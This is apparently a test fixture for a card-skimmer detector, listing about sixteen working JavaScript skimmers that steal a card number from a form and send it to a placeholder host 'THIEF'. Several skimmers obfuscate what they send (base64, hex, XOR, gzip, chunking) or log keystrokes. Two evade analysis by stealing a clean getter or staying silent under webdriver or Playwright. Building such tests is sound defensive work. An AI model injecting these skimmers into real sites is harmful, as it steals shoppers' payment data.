// Owns the skimmers of the behaviour tests: each a script that the thief's host serves to a plain card form.

const value = (id: string) => `document.getElementById('${id}').value`
const onChange = (work: string) =>
  `document.getElementById('card').addEventListener('change', async function take(){ const pan = this.value; ${work} });`
const post = (body: string) => `fetch('http://THIEF/c', { method: 'POST', mode: 'no-cors', body: ${body} });`

/** Skimmers whose loot is found in what leaves, with the steps of decoding, or null where several are right. */
export const foundByContent: Record<string, { skimmer: string; where: string; encoding: string[] | null }> = {
  'a change listener with fetch': { skimmer: onChange(post('pan')), where: 'body', encoding: [] },
  'an XHR': {
    skimmer: onChange(`const x = new XMLHttpRequest(); x.open('POST', 'http://THIEF/x'); x.send('p=' + pan);`),
    where: 'body',
    encoding: [],
  },
  'an image': { skimmer: onChange(`new Image().src = 'http://THIEF/p.gif?d=' + pan;`), where: 'url', encoding: [] },
  'a beacon': { skimmer: onChange(`navigator.sendBeacon('http://THIEF/b', pan);`), where: 'body', encoding: [] },
  'a web socket': {
    skimmer: `const s = new WebSocket('ws://THIEF/s'); ${onChange(`s.send(JSON.stringify({ pan }));`)}`,
    where: 'websocket',
    encoding: [],
  },
  base64: { skimmer: onChange(post(`'d=' + btoa(JSON.stringify({ pan }))`)), where: 'body', encoding: ['base64'] },
  hexadecimal: { skimmer: onChange(post(`[...pan].map((c) => c.charCodeAt(0).toString(16)).join('')`)), where: 'body', encoding: ['hex'] },
  'a repeating key': {
    skimmer: onChange(
      post(`btoa([...('n=' + pan + ';')].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ 'k3yF0r'.charCodeAt(i % 6))).join(''))`),
    ),
    where: 'body',
    encoding: ['base64', 'xor-key'],
  },
  gzip: {
    skimmer: onChange(`const z = new Blob([JSON.stringify({ pan })]).stream().pipeThrough(new CompressionStream('gzip'));
      const bytes = new Uint8Array(await new Response(z).arrayBuffer()); ${post(`btoa(String.fromCharCode(...bytes))`)}`),
    where: 'body',
    encoding: ['base64', 'gzip'],
  },
  'four pieces': {
    skimmer: onChange(`pan.match(/.{4}/g).forEach((part, at) => { new Image().src = 'http://THIEF/q?i=' + at + '&d=' + part; });`),
    where: 'reassembled',
    encoding: [],
  },
  'one key at a time': {
    skimmer: `document.addEventListener('keydown', function log(e) { if (e.target.id === 'card' && e.key.length === 1 && !e.ctrlKey) new Image().src = 'http://THIEF/k?n=' + Math.random() + '&k=' + e.key; });`,
    where: 'reassembled',
    encoding: null,
  },
  'the paste event': {
    skimmer: `document.addEventListener('paste', function grab(e) { ${post(`e.clipboardData.getData('text')`)} });`,
    where: 'body',
    encoding: [],
  },
  polling: {
    skimmer: `let last = ''; setInterval(function look() { const now = ${value('card')}; if (now.length > 15 && now !== last) { last = now; ${post('now')} } }, 700);`,
    where: 'body',
    encoding: [],
  },
  'a mutation observer that waits for fields': {
    skimmer: `new MutationObserver(function saw() { const i = document.getElementById('card'); if (i && !i.dataset.x) { i.dataset.x = 1; i.addEventListener('blur', () => { ${post('i.value')} }); } })
      .observe(document.body, { childList: true, subtree: true, attributes: true }); document.body.setAttribute('data-go', '1');`,
    where: 'body',
    encoding: [],
  },
  'form data': {
    skimmer: `document.getElementById('f').addEventListener('submit', send); document.getElementById('holder').addEventListener('blur', send);
      function send() { const d = new URLSearchParams(new FormData(document.getElementById('f'))); ${post('d')} }`,
    where: 'body',
    encoding: [],
  },
  'a getter taken from a clean frame': {
    skimmer: `const f = document.createElement('iframe'); document.body.append(f);
      const get = Object.getOwnPropertyDescriptor(f.contentWindow.HTMLInputElement.prototype, 'value').get;
      ${onChange(post('get.call(this)'))}`,
    where: 'body',
    encoding: [],
  },
  'a detector of hooks that stays silent under observation': {
    skimmer: onChange(`const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
      const natural = (f) => Function.prototype.toString.call(f).includes('[native code]') && !f.hasOwnProperty('prototype');
      if (natural(d.get) && natural(fetch) && !/hook|inject|extension|puppet|playwright|tw-/i.test(new Error().stack) && !navigator.webdriver && Object.keys(window).every((k) => !/cdc_|__p/.test(k))) ${post('pan')}`),
    where: 'body',
    encoding: [],
  },
}
